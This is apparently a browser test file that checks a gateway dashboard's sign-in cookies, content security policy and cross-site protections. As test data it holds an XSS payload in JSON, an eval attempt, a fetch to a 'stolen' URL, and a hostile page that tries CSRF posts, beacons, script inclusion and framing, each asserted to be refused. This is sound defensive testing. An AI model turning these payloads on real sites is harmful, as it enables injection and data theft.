// The gateway's front in Chromium: signing in, what a page may do under its policy, and what another site's page may not.
import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import type {Browser, Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it, onTestFinished, vi} from "vitest";
import {start as startCommand} from "../cli/command.js";
import {preparedState, shop, smallProject} from "../cli/project.js";
import {Ikigai} from "../../lib/client/index.js";
import {startPlatform} from "../../lib/platform/index.js";
import {startShop} from "../gateway/shop.js";
import {start, temporaryFolder, write} from "../gateway/support.js";
import {launchChromium, visit} from "./chromium.js";
import {violations} from "./site-page.js";

let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
});

afterAll(() => browser?.close());

const token = "a-token-of-enough-characters";

describe("signing in", () => {
  const signIn = async (page: Page, given: string) => {
    await page.getByLabel("Access token").fill(given);
    await page.keyboard.press("Enter");
  };

  it("takes the token, by keyboard, and shows the page that was asked for", async () => {
    const {url} = await start({token});
    const {page, errors} = await visit(browser, `${url}/?week=3`);
    await signIn(page, "another-token-of-enough");
    await page.getByRole("alert").filter({hasText: "The token is wrong"}).waitFor();
    await signIn(page, token);
    await page.getByRole("heading", {name: "Overview"}).waitFor();
    expect(page.url()).toBe(`${url}/?week=3`);
    expect(await page.evaluate(() => document.cookie)).toBe("");
    const [cookie, ...more] = await page.context().cookies();
    expect(more).toEqual([]);
    expect(cookie).toMatchObject({httpOnly: true, sameSite: "Strict"});
    expect(cookie!.value).not.toContain(token);
    // That it wasn't let in at first is all that the console has to tell.
    expect(errors.filter((error) => !error.includes("401"))).toEqual([]);
    await page.context().close();
  });

  it("isn't asked for again when a link on another site leads here", async () => {
    const {url} = await start({token});
    const other = createServer((_, response) =>
      response.setHeader("content-type", "text/html").end(`<a href="${url}/">the dashboard</a>`)
    );
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => void other.close());
    const {page} = await visit(browser, url);
    await signIn(page, token);
    await page.getByRole("heading", {name: "Overview"}).waitFor();
    // Another site, and not only another port, which cookies don't tell apart.
    await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
    await page.getByText("the dashboard").click();
    await page.getByRole("heading", {name: "Overview"}).waitFor();
    await page.context().close();
  });

  it.each(["light", "dark"] as const)("can be done by everybody, in a %s room too", async (colorScheme) => {
    const {url} = await start({token});
    const {page} = await visit(browser, url);
    await page.emulateMedia({colorScheme});
    expect(await violations(page)).toEqual([]);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("token");
    await page.context().close();
  });
});

describe("a page's policy", () => {
  const page = (body: string, head = "") =>
    `<!DOCTYPE html><html><head><meta charset="utf-8"><link rel="icon" href="data:,">${head}</head><body>${body}</body></html>`;

  it("runs its own scripts, and none that came with its data", async () => {
    const folder = await write(await temporaryFolder(), {
      "index.html": page(
        `<main></main><script type="module">
          document.title = "ran";
          const [main] = document.getElementsByTagName("main");
          const data = await (await fetch("/data.json")).json();
          main.innerHTML = data.name;
          main.firstElementChild.click();
          main.append(Object.assign(document.createElement("script"), {textContent: "window.injected = 2"}));
          try { eval("window.injected = 3"); } catch {}
          try { await fetch("http://localhost:9/?stolen"); } catch { document.title = "kept"; }
        </script>`
      ),
      "data.json": JSON.stringify({
        name: `<img src="x" onerror="window.injected = 1" onclick="window.injected = 4">`
      })
    });
    const {url} = await start({site: {folder}});
    const {page: shown, foreignRequests} = await visit(browser, url);
    await shown.waitForFunction(() => document.title === "kept");
    expect(await shown.evaluate(() => (globalThis as {injected?: number}).injected)).toBeUndefined();
    expect(foreignRequests).toEqual([]);
    await shown.context().close();
  });

  it("lets it read CSV, and evaluate nothing where it doesn't", async () => {
    const evaluating = `<script type="module">
      try { new Function("return 1")(); document.title = "evaluated"; } catch { document.title = "refused"; }
    </script>`;
    const folder = await write(await temporaryFolder(), {
      "index.html": page(evaluating),
      "csv.html": page(`${evaluating}<script type="module">// registerFile("./x.csv", {})</script>`)
    });
    const {url} = await start({site: {folder}});
    for (const [path, title] of [
      ["/", "refused"],
      ["/csv", "evaluated"]
    ]) {
      const {page: shown} = await visit(browser, url + path);
      await shown.waitForFunction(() => document.title !== "");
      expect(await shown.title()).toBe(title);
      await shown.context().close();
    }
  });
});

describe("another site's page", () => {
  it("starts nothing here, learns nothing, and can't frame what is here", async () => {
    const {url, calls} = await startShop();
    const attacks = `<!DOCTYPE html><link rel="icon" href="data:,"><body>
      <iframe id="framed" src="${url}/"></iframe>
      <iframe name="sink"></iframe>
      <form method="post" action="${url}/api/flows/copy/runs" enctype="text/plain" target="sink">
        <input name='{"variables":{},"x":"' value='"}'>
      </form>
      <script type="module">
        const results = {};
        const body = JSON.stringify({variables: {}});
        const key = {"idempotency-key": crypto.randomUUID()};
        const tried = async (name, attempt) => {
          try { results[name] = await attempt(); } catch (error) { results[name] = "refused"; }
        };
        const to = "${url}/api/flows/copy/runs";
        await tried("read", async () => (await fetch("${url}/api/flows")).text());
        await tried("page", async () => (await fetch("${url}/")).text());
        await tried("json", async () => (await fetch(to, {method: "POST", body, headers: {"content-type": "application/json", "x-ikigai-kit": "1", ...key}})).status);
        await tried("simple", async () => (await fetch(to, {method: "POST", body, mode: "no-cors", headers: {"content-type": "text/plain"}})).type);
        await tried("beacon", async () => String(navigator.sendBeacon(to, body)));
        await tried("events", () => new Promise((resolve) => {
          const events = new EventSource("${url}/api/events");
          events.onopen = () => resolve("open");
          events.onerror = () => resolve("refused");
        }));
        await tried("script", () => new Promise((resolve) => {
          const script = document.createElement("script");
          script.src = "${url}/api/flows";
          script.onload = () => resolve("loaded");
          script.onerror = () => resolve("refused");
          document.body.append(script);
        }));
        document.forms[0].submit();
        await new Promise((resolve) => document.querySelector("[name=sink]").addEventListener("load", resolve, {once: true}));
        const opened = window.open("${url}/");
        await tried("opened", async () => {
          // Empty, and this site's, until the answer has come.
          while (opened && !opened.closed) {
            if (opened.document.title) return opened.document.title;
            await new Promise((resolve) => setTimeout(resolve, 20));
          }
          return "refused";
        });
        globalThis.results = results;
      </script>`;
    const evil = createServer((_, response) => response.setHeader("content-type", "text/html").end(attacks));
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => void evil.close());
    calls();
    const {page} = await visit(browser, `http://localhost:${(evil.address() as AddressInfo).port}/`);
    await page.waitForFunction(() => "results" in globalThis);
    const results = await page.evaluate(() => (globalThis as unknown as {results: object}).results);
    expect(results).toMatchObject({
      read: "refused",
      page: "refused",
      json: "refused",
      events: "refused",
      script: "refused",
      opened: "refused"
    });
    const framed = page.frames().find((frame) => frame.parentFrame() && frame.name() === "");
    expect(await framed?.evaluate(() => document.body.textContent).catch(() => "")).not.toContain("Overview");
    expect(calls().filter((line) => /run-pipeline/.test(line))).toEqual([]);
    await page.context().close();
  });
});

describe("a preview", () => {
  it(
    "shows what one writes as it is saved, under its policy, and tells its pages of the gateway",
    {timeout: 240_000},
    async () => {
      const project = await smallProject();
      onTestFinished(() => project.remove());
      const state = await preparedState();
      onTestFinished(() => state.remove());
      const command = startCommand(["dev", "--port", "0", "--data", state.data], {cwd: project.root});
      onTestFinished(() => command.kill());
      const [, url] = await command.says(/The preview: +(http:\S+)\//);
      const {page, errors} = await visit(browser, `${url}/`);
      await page.getByText("Sold: 42").waitFor();
      expect(await page.locator('meta[name="ikigai-gateway"]').getAttribute("content")).toBe("/api");
      const flows = await page.evaluate(async () => (await fetch("/api/flows")).json() as Promise<unknown>);
      expect(flows).toMatchObject({flows: []});

      await page.evaluate(() => Object.assign(globalThis, {sameDocument: true}));
      // Framework misses a change that is saved while its page still greets it.
      let saved = 0;
      await vi.waitFor(
        async () => {
          await project.write("src/index.md", `# Changed\n\n\${1 + 1} cells ran, saved ${++saved} times\n`);
          await page.getByText("2 cells ran").waitFor({timeout: 10_000});
        },
        {timeout: 120_000}
      );
      expect(await page.evaluate(() => "sameDocument" in globalThis)).toBe(true);
      expect(errors).toEqual([]);
      await page.context().close();
      expect(await command.interrupt()).toBe(0);
      expect(command.stdout + command.stderr).not.toContain(state.apiKey);
    }
  );

  it(
    "shows new data when it has been pulled, also on a page that doesn't follow it",
    {timeout: 240_000},
    async () => {
      const project = await smallProject();
      onTestFinished(() => project.remove());
      const platform = await startPlatform({data: await temporaryFolder(), seed: [shop]});
      onTestFinished(() => platform.close());
      const {baseUrl, userEmail, apiKey} = platform;
      const env = {IKIGAI_BASE_URL: baseUrl, IKIGAI_USER_EMAIL: userEmail, IKIGAI_API_KEY: apiKey};
      const command = startCommand(["dev", "--port", "0"], {cwd: project.root, env});
      onTestFinished(() => command.kill());
      const [, url] = await command.says(/The preview: +(http:\S+)\//);
      const {page, errors} = await visit(browser, `${url}/`);
      await page.getByText("Sold: 42").waitFor();
      const refresh = () =>
        page.evaluate(async () => {
          const answer = await fetch("/api/refresh", {method: "POST", headers: {"x-ikigai-kit": "1"}});
          return answer.status;
        });
      let loads = 0;
      page.on("load", () => ++loads);
      const sales = await (await new Ikigai(platform).apps.get("Shop")).datasets.get("Sales");
      await sales.editData({csv: "day,units\n2024-01-01,50\n"});
      expect(await refresh()).toBeLessThan(300);
      await page.getByText("Sold: 50").waitFor();
      // Without news nothing is reloaded, and nothing twice: the next news are the next reload.
      expect(await refresh()).toBeLessThan(300);
      await sales.editData({csv: "day,units\n2024-01-01,60\n"});
      expect(await refresh()).toBeLessThan(300);
      await page.getByText("Sold: 60").waitFor();
      await expect.poll(() => loads).toBe(2);
      expect(errors).toEqual([]);
      await page.context().close();
    }
  );
});
